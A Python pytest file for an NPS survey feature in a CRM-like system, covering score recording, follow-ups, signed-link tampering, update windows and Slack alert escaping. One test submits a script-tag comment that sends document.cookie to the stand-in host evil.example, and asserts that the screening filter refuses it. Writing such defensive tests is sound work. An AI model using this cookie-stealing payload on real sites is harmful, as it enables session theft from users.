"""Recording answers through the link: categories, follow-ups, updates within 7 days, refusals."""

from datetime import timedelta

import pytest
from sqlalchemy import select, update

from engine.actors import Actor, Role
from engine.audit import verify_audit_chain
from engine.errors import InvalidInput, PolicyDenied
from engine.satisfaction.errors import SurveyClosed, SurveyLinkExpired, SurveyLinkInvalid, SurveyNotFound
from engine.satisfaction.nps import record_nps_response, track_client_satisfaction
from engine.satisfaction.surveys import send_nps_survey
from engine.satisfaction.tokens import read_token, sign_survey
from storage.models import AuditEntry, Client, Interaction, Lead, LeadStageHistory, NpsSurvey, Project
from storage.types import utcnow
from tests.conftest import SALES, VIEWER, op
from tests.helpers.nps import delivered_project, get, snapshot


def client_actor(client_id: int) -> Actor:
    return Actor(kind="client", ref=str(client_id), role=Role.CLIENT, name="client")


async def sent_survey(services, **kw):
    d = await delivered_project(services, **kw)
    sent = await op(services, SALES, send_nps_survey, d.project_id)
    return d, sent, sent.link.rsplit("/", 1)[1]


async def answer(services, d, token, score, comment=None):
    return await op(services, client_actor(d.client_id), record_nps_response, token, score, comment)


async def test_detractor_answer_is_saved_everywhere_and_alerts_slack(slack_services, fake_slack):
    s = slack_services
    d, sent, token = await sent_survey(s, owner="U0OWNER")
    comment = "The launch slipped two weeks and nobody told us. Disappointed."
    result = await answer(s, d, token, 3, comment)
    assert result.category == "detractor" and result.updated is False
    assert result.sentiment is not None and result.sentiment < -0.05
    project = await get(s, Project, d.project_id)
    assert project.nps_score == 3 and project.client_feedback == comment
    assert (await get(s, Client, d.client_id)).satisfaction_score == 3.0
    survey = await get(s, NpsSurvey, sent.survey_id)
    assert (survey.status, survey.score, survey.category, survey.comment) == ("answered", 3, "detractor", comment)
    lead = await get(s, Lead, d.lead_id)
    assert "Call Grace Hopper" in lead.next_action
    assert timedelta(0) < lead.next_action_date - utcnow() <= timedelta(days=3, minutes=1)  # 1 business day
    alerts = [c for c in await fake_slack.wait_for("chat.postMessage", 2) if c.params["channel"] == "C0ALERTS"]
    assert len(alerts) == 1
    text = alerts[0].params["text"]
    assert "<@U0OWNER>" in text and "3/10" in text and "nobody told us" in text
    async with s.session_factory() as session:
        inter = (await session.execute(select(Interaction).where(Interaction.channel == "nps_link"))).scalar_one()
        assert inter.metadata_["score"] == 3 and inter.actor == f"client:{d.client_id}"
        entry = (await session.execute(select(AuditEntry).where(
            AuditEntry.action == "nps.response_recorded"))).scalar_one()
        assert entry.actor == f"client:{d.client_id}" and entry.details["score"] == 3
        assert (await verify_audit_chain(session)).ok


async def test_passive_gets_a_check_in(services):
    d, _sent, token = await sent_survey(services)
    result = await answer(services, d, token, 8, "Good work overall.")
    assert result.category == "passive"
    lead = await get(services, Lead, d.lead_id)
    assert lead.next_action.startswith("Check in with") and lead.next_action_date > utcnow()
    report = await op(services, SALES, track_client_satisfaction, d.project_id)
    assert any("Check in" in r for r in report.recommendations)


async def test_promoter_creates_a_repeat_opportunity(services):
    d, sent, token = await sent_survey(services)
    result = await answer(services, d, token, 10, "Fantastic team, we will be back!")
    assert result.category == "promoter" and result.sentiment > 0.05
    async with services.session_factory() as s:
        repeat = (await s.execute(select(Lead).where(Lead.stage == "REPEAT"))).scalar_one()
        assert repeat.client_id == d.client_id and repeat.metadata_["project_id"] == d.project_id
        history = (await s.execute(select(LeadStageHistory).where(LeadStageHistory.lead_id == repeat.id))).scalars()
        assert [h.to_stage for h in history] == ["REPEAT"]
    lead = await get(services, Lead, d.lead_id)
    assert "testimonial" in lead.next_action
    report = await op(services, SALES, track_client_satisfaction, d.project_id)
    assert report.category == "promoter" and report.nps_score == 10
    assert any(f"lead #{repeat.id}" in r for r in report.recommendations)
    assert any("testimonial" in r for r in report.recommendations)
    # answering again as a promoter does not make a second opportunity
    await answer(services, d, token, 9, "Still great")
    async with services.session_factory() as s:
        assert len((await s.execute(select(Lead).where(Lead.stage == "REPEAT"))).scalars().all()) == 1


async def test_answering_again_within_seven_days_updates_and_is_audited(services):
    d, sent, token = await sent_survey(services)
    await answer(services, d, token, 4, "Slow.")
    again = await answer(services, d, token, 7, "On reflection, fine.")
    assert again.updated is True and again.category == "passive"
    survey = await get(services, NpsSurvey, sent.survey_id)
    assert survey.score == 7 and survey.update_count == 1 and survey.comment == "On reflection, fine."
    assert (await get(services, Project, d.project_id)).nps_score == 7
    assert (await get(services, Client, d.client_id)).satisfaction_score == 7.0
    async with services.session_factory() as s:
        entry = (await s.execute(select(AuditEntry).where(AuditEntry.action == "nps.response_updated"))).scalar_one()
        assert entry.details["previous_score"] == 4 and entry.details["score"] == 7


async def test_after_seven_days_the_answer_is_closed_and_nothing_is_written(services):
    d, sent, token = await sent_survey(services)
    await answer(services, d, token, 9)
    async with services.session_factory() as s:
        await s.execute(update(NpsSurvey).where(NpsSurvey.id == sent.survey_id)
                        .values(answered_at=utcnow() - timedelta(days=7, minutes=1)))
        await s.commit()
    before = await snapshot(services)
    with pytest.raises(SurveyClosed):
        await answer(services, d, token, 2, "changed my mind")
    assert await snapshot(services) == before
    assert (await get(services, NpsSurvey, sent.survey_id)).score == 9


async def test_bad_links_are_refused_and_write_nothing(services):
    d, sent, token = await sent_survey(services)
    other, other_sent, other_token = await sent_survey(services)
    settings = services.settings
    claim = read_token(settings, token)
    before = await snapshot(services)
    tampered = token[:-3] + ("AAA" if not token.endswith("AAA") else "BBB")
    with pytest.raises(SurveyLinkInvalid):
        await answer(services, d, tampered, 5)
    # a validly signed token naming this survey but another project
    with pytest.raises(SurveyLinkInvalid):
        await answer(services, d, sign_survey(settings, claim.survey_id, other.project_id, claim.nonce), 5)
    # another project's survey id with this survey's nonce
    with pytest.raises(SurveyLinkInvalid):
        await answer(services, d, sign_survey(settings, other_sent.survey_id, other.project_id, claim.nonce), 5)
    # signed with another key
    with pytest.raises(SurveyLinkInvalid):
        await answer(services, d, sign_survey(settings.model_copy(update={"secret_key": "other"}),
                                              claim.survey_id, d.project_id, claim.nonce), 5)
    with pytest.raises(SurveyNotFound):
        await answer(services, d, sign_survey(settings, 987_654, d.project_id, claim.nonce), 5)
    # the other client's link, answered as this client
    with pytest.raises(PolicyDenied):
        await answer(services, d, other_token, 5)
    with pytest.raises(InvalidInput) as bad:
        await answer(services, d, token, 11)
    assert bad.value.field == "score"
    with pytest.raises(InvalidInput):
        await answer(services, d, token, "ten")
    with pytest.raises(InvalidInput) as long_comment:
        await answer(services, d, token, 5, "x" * 5001)
    assert long_comment.value.field == "comment"
    with pytest.raises(PolicyDenied):
        await op(services, VIEWER, record_nps_response, token, 5, None)
    after = await snapshot(services)
    assert {k: v for k, v in after.items() if k != "audit"} == {k: v for k, v in before.items() if k != "audit"}
    async with services.session_factory() as s:
        new = (await s.execute(select(AuditEntry.action).where(AuditEntry.seq > before["audit"]))).scalars().all()
    assert set(new) == {"policy.denied"}  # refusals by governance are audited, nothing else written


async def test_expired_link_is_refused(services):
    d, sent, token = await sent_survey(services)
    async with services.session_factory() as s:
        await s.execute(update(NpsSurvey).where(NpsSurvey.id == sent.survey_id)
                        .values(expires_at=utcnow() - timedelta(seconds=1)))
        await s.commit()
    before = await snapshot(services)
    with pytest.raises(SurveyLinkExpired):
        await answer(services, d, token, 10)
    assert await snapshot(services) == before


async def test_agency_nps_over_ten_answers_equals_the_hand_computed_figure(services):
    scores = [10, 9, 9, 10, 8, 7, 6, 3, 0, 9]  # 5 promoters, 2 passives, 3 detractors -> NPS 20
    first = None
    for score in scores:
        d, _sent, token = await sent_survey(services)
        first = first or d
        await answer(services, d, token, score)
    # an answer older than the window does not count
    services.settings.nps_window_days = 30
    old, old_sent, old_token = await sent_survey(services)
    await answer(services, old, old_token, 0)
    async with services.session_factory() as s:
        await s.execute(update(NpsSurvey).where(NpsSurvey.id == old_sent.survey_id)
                        .values(answered_at=utcnow() - timedelta(days=31)))
        await s.commit()
    report = await op(services, VIEWER, track_client_satisfaction, first.project_id)
    assert report.agency_nps == 20.0 and report.agency_responses == 10
    assert report.project_id == first.project_id and report.nps_score == 10 and report.category == "promoter"


async def test_satisfaction_of_a_project_never_surveyed(services):
    d = await delivered_project(services)
    report = await op(services, VIEWER, track_client_satisfaction, d.project_id)
    assert report.nps_score is None and report.survey_status is None and report.agency_nps is None
    assert report.recommendations and "Send an NPS survey" in report.recommendations[0]


async def test_comment_is_screened_before_storage_and_escaped_in_the_alert(slack_services, fake_slack):
    s = slack_services
    d, sent, token = await sent_survey(s, owner="U0OWNER", title="Bot for <@U0BOSS>")
    comment = "Terrible. <@U0CEO> look: <b>card 4111 1111 1111 1111</b> was charged twice <!channel>"
    await answer(s, d, token, 2, comment)
    survey = await get(s, NpsSurvey, sent.survey_id)
    assert "4111 1111 1111 1111" not in survey.comment and "[redacted" in survey.comment
    assert "<!channel>" not in survey.comment and "Terrible." in survey.comment
    assert {f["detector"] for f in survey.metadata_["hunter"]["findings"]} >= {"payment_card", "markup"}
    project = await get(s, Project, d.project_id)
    assert "4111 1111" not in project.client_feedback
    async with s.session_factory() as session:
        inter = (await session.execute(select(Interaction).where(Interaction.channel == "nps_link"))).scalar_one()
        assert "4111 1111" not in inter.summary and inter.metadata_["hunter"]["action"] == "redact"
    alerts = [c for c in await fake_slack.wait_for("chat.postMessage", 2) if c.params["channel"] == "C0ALERTS"]
    text = alerts[0].params["text"]
    assert text.startswith(":rotating_light: <@U0OWNER> ")  # our own mention still pings the owner
    assert "<@U0CEO>" not in text and "&lt;@U0CEO&gt;" in text and "<b>" not in text
    assert "<@U0BOSS>" not in text and "&lt;@U0BOSS&gt;" in text  # the project title is escaped too


async def test_a_script_in_a_comment_is_refused_and_nothing_is_saved(services):
    d, sent, token = await sent_survey(services)
    with pytest.raises(PolicyDenied, match="refused by Hunter"):
        await answer(services, d, token, 9, "Great! <script>fetch('https://evil.example/?c='+document.cookie)</script>")
    survey = await get(services, NpsSurvey, sent.survey_id)
    assert survey.status != "answered" and survey.comment is None
    assert any("Hunter blocked an NPS comment" in m["text"] for m in services.notifier.inner.sent)


async def test_a_clean_update_drops_the_old_findings(services):
    d, sent, token = await sent_survey(services)
    await answer(services, d, token, 8, "Fine, see <b>notes</b>")
    assert "hunter" in (await get(services, NpsSurvey, sent.survey_id)).metadata_
    await answer(services, d, token, 9, "Fine, all good now")
    assert "hunter" not in (await get(services, NpsSurvey, sent.survey_id)).metadata_
